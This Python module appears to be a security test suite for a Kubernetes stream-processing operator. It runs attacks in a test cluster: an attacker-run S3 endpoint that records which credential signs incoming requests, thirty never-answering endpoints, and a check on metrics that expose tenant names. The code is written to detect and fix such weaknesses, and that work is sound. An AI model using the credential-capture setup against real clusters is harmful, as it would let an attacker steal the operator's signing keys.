"""Attacks that make the operator use its own key, or its own memory, for an attacker."""

import http.client
import http.server
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager

from dev.attack.attack import Attack, Succeeded, Undecided
from dev.attack.world import OWN_KEY, World, settle, streamsnapshot
from dev.demo import run
from dev.lib import wait
from dev.s3 import install as s3

HOST = "host.streamkeeper.internal"
"""How pods reach a server on this host."""


class Listener(http.server.ThreadingHTTPServer):
    """An attacker's server: notes which key signed each request."""

    def __init__(self) -> None:
        super().__init__(("0.0.0.0", 0), Recorder)
        self.keys: list[str] = []


class Recorder(http.server.BaseHTTPRequestHandler):
    """Returns 403 to every request."""

    def answer(self) -> None:
        """Note the key and refuse."""
        assert isinstance(self.server, Listener)
        authorization = self.headers.get("authorization", "")
        _, _, after = authorization.partition("Credential=")
        self.server.keys.append(after.partition("/")[0] or "unsigned")
        self.rfile.read(min(int(self.headers.get("content-length") or 0), 1 << 20))
        self.send_response(403)
        self.send_header("content-length", "0")
        self.end_headers()

    do_GET = do_PUT = do_POST = do_HEAD = do_DELETE = answer

    def log_message(self, *_: object) -> None:
        """Keep the report readable."""


@contextmanager
def listening() -> Iterator[tuple[Listener, str]]:
    """An attacker's server, and its endpoint as pods see it."""
    server = Listener()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server, f"http://{HOST}:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def endpoint_of_attacker(world: World) -> str:
    """A StreamJob whose store is a server of the attacker: who signs what it receives?"""
    operators, _ = s3.keys(world.cluster.kubectl)
    with world.own_key(), listening() as (server, endpoint):
        storage = {"s3": {"uri": "s3://loot/state", "endpoint": endpoint}}
        world.attacker.apply(world.attacking_job("signed", storage=storage))
        world.attacker.apply(streamsnapshot("signed", jobRef={"name": "signed"}, importFrom={"uri": "s3://loot/state/a/b/savepoints/c"}))
        try:
            wait.until("a request of the job's own pods", lambda: OWN_KEY in server.keys or wait.Pending(f"{len(server.keys)} requests"), 60)
        except wait.Timeout as error:
            raise Undecided(f"the job's own pods did not reach the attacker's server: {server.keys}") from error
        settle(10)
        world.cleared("streamsnapshot", "signed")
        world.cleared("streamjob", "signed")
    if operators in server.keys:
        raise Succeeded(f"{server.keys.count(operators)} requests are signed with the operator's key")
    return f"{len(server.keys)} requests, all of the job's own pods, none signed with the operator's key"


def deaf_endpoints(world: World) -> str:
    """Thirty StreamJobs whose store takes connections and never answers."""
    with socket.create_server(("0.0.0.0", 0), backlog=4096) as deaf:
        endpoint = f"http://{HOST}:{deaf.getsockname()[1]}"
        names = [f"deaf-{number}" for number in range(30)]
        for name in names:
            world.attacker.apply(world.attacking_job(name, storage={"s3": {"uri": "s3://deaf/state", "endpoint": endpoint}}, suspend=True))
        world.operator_works(30)
        world.victim_unharmed()
        world.attacker.run("delete", "streamjobs", *names, "--timeout=120s", timeout=150)
    return "the victim's edits are acted on as before"


def metrics_of_operator(world: World) -> str:
    """The operator's metrics hold names of tenants. An administrator can close them."""

    def status() -> int:
        pod = world.operator_pods()[0]["metadata"]["name"]
        with world.operator.port_forward(f"pod/{pod}", 8080) as address:
            connection = http.client.HTTPConnection(address, timeout=20)
            try:
                connection.request("GET", "/metrics")
                return connection.getresponse().status
            finally:
                connection.close()

    if status() != 200:
        raise Undecided("the operator serves no metrics by default, so nothing can be closed")
    run.install_operator(world.cluster, "metrics.enabled=false")
    try:
        closed = status()
    finally:
        run.install_operator(world.cluster)
    if closed != 404:
        raise Succeeded(f"with metrics.enabled=false, GET /metrics answers {closed}")
    return "with metrics.enabled=false, GET /metrics answers 404"


ATTACKS = [
    Attack("a store of the attacker that waits for requests signed with the operator's key", endpoint_of_attacker),
    Attack("thirty StreamJobs whose store never answers", deaf_endpoints),
    Attack("the operator's metrics, once they are closed", metrics_of_operator),
]
